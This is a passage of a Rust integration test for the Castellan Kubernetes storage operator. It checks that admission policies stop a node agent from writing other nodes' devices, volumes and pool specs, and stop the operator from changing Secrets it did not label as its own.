        refused_as(who, &["create", "-f", "-", dry[0]], Some(manifest))
    };

    // Its own node's disks; never another node's, nor any without a node in its token.
    let refusal = eventually(
        "the agent policies are in force",
        Duration::from_secs(30),
        || async { create(&agent, &block_device("node-2")).ok_or_else(|| "accepted".to_owned()) },
    )
    .await;
    assert!(
        refusal.contains("the node agent on node-1 may write only its own node's blockdevices"),
        "{refusal}"
    );
    assert_eq!(create(&agent, &block_device("node-1")), None);
    let refusal = create(&stray, &block_device("node-1")).expect("a token bound to no pod");
    assert!(
        refusal.contains("only with a token bound to its pod"),
        "{refusal}"
    );

    // Its own node's volumes; another node's it can neither make nor delete.
    assert_eq!(create(&agent, &local_volume("probe-own", "node-1")), None);
    let refusal = create(&agent, &local_volume("probe-foreign", "node-2")).expect("node-2's");
    assert!(
        refusal.contains("own node's persistentvolumes"),
        "{refusal}"
    );
    let foreign = "policy-probe-node-2";
    let file = std::env::temp_dir().join(format!("{foreign}.yaml"));
    std::fs::write(&file, local_volume(foreign, "node-2")).expect("manifest");
    kubectl_ok(&["create", "-f", file.to_str().expect("utf-8")]);
    let _ = std::fs::remove_file(&file);
    let refusal = refused_as(&agent, &["delete", "pv", foreign, dry[0]], None)
        .expect("deleting node-2's volume");
    assert!(
        refusal.contains("own node's persistentvolumes"),
        "{refusal}"
    );
    kubectl_ok(&["delete", "pv", foreign, "--wait=false"]);

    // A pool: its finalizers and annotations, never its spec; in its status, only its
    // own node's entry.
    let pool = "policy-probe";
    let file = std::env::temp_dir().join(format!("{pool}.yaml"));
    std::fs::write(
        &file,
        format!(
            "apiVersion: castellan.io/v1alpha1\nkind: StoragePool\nmetadata: {{name: {pool}}}\n\
             spec:\n  nodeSelector: {{matchLabels: {{castellan.io/policy-probe: none}}}}\n  \
             devices: {{pathPattern: \"^/dev/nothing$\"}}\n  layout: single\n  \
             storageClass: {{name: policy-probe}}\n"
        ),
    )
    .expect("manifest");
    kubectl_ok(&["create", "-f", file.to_str().expect("utf-8")]);
    let _ = std::fs::remove_file(&file);
    let patch = |body: &str| {
        let args = [
            "patch",
            "storagepool",
            pool,
            "--type=merge",
            "-p",
            body,
            dry[0],
        ];
        refused_as(&agent, &args, None)
    };
    let refusal =
        patch(r#"{"spec":{"devices":{"allowWipe":true}}}"#).expect("turning allowWipe on");
    assert!(refusal.contains("never its spec"), "{refusal}");
    assert_eq!(
        patch(r#"{"metadata":{"annotations":{"probe":"yes"}}}"#),
        None
    );
    let entry = |node: &str| json!({"status": {"nodes": [{"node": node}]}});
    assert_eq!(
        patch_pool_status_as(&agent, pool, entry("node-1")).await,
        None
    );
    let refusal = patch_pool_status_as(&agent, pool, entry("node-2"))
        .await
        .expect("writing node-2's entry");
    assert!(refusal.contains("only its own node's entry"), "{refusal}");
    kubectl_ok(&["delete", "storagepool", pool, "--wait=false"]);

    // The operator: Secrets it labelled as Castellan's, no others.
    apply_identity("deploy/operator/operator.yaml");
    let policies = support::repo().join("deploy/operator/policies.yaml");
    kubectl_ok(&["apply", "-f", &policies.to_string_lossy()]);
    let operator = ["--as=system:serviceaccount:castellan-system:castellan-operator"];
    let as_operator = |args: &[&str]| {
        let mut all = args.to_vec();
        all.extend(["-n", ns, operator[0], dry[0]]);
        let output = kubectl(&all);
        (!output.status.success()).then(|| String::from_utf8_lossy(&output.stderr).into_owned())
    };
    let refusal = eventually(
        "the operator's Secret policy is in force",
        Duration::from_secs(30),
        || async {
            as_operator(&["create", "secret", "generic", "loose", "--from-literal=k=v"])
                .ok_or_else(|| "accepted".to_owned())
        },
    )
    .await;
    assert!(
        refusal.contains("may write only Secrets labelled app.kubernetes.io/managed-by=castellan"),
        "{refusal}"
    );
    kubectl_ok(&[
        "create",
        "secret",
        "generic",
        "user-keys",
        "--from-literal=k=v",
        "-n",
        ns,
    ]);
    let patch = r#"{"stringData":{"k":"stolen"}}"#;
    assert!(
        as_operator(&["patch", "secret", "user-keys", "--type=merge", "-p", patch]).is_some(),
        "the operator may not change a user's Secret"
    );
    assert!(
        as_operator(&["delete", "secret", "user-keys"]).is_some(),
        "nor delete it"
    );
    kubectl_ok(&[
        "create",
        "secret",
        "generic",
        "made-by-castellan",
        "--from-literal=k=v",
        "-n",
        ns,
    ]);
    kubectl_ok(&[
        "label",
        "secret",
        "made-by-castellan",
        "app.kubernetes.io/managed-by=castellan",
        "-n",
        ns,
    ]);
    assert_eq!(
        as_operator(&[
            "patch",
            "secret",
            "made-by-castellan",
            "--type=merge",
            "-p",
            patch
        ]),
        None,
        "its own it may change"
    );
    let _ = std::fs::remove_file(&agent);
    let _ = std::fs::remove_file(&stray);
}
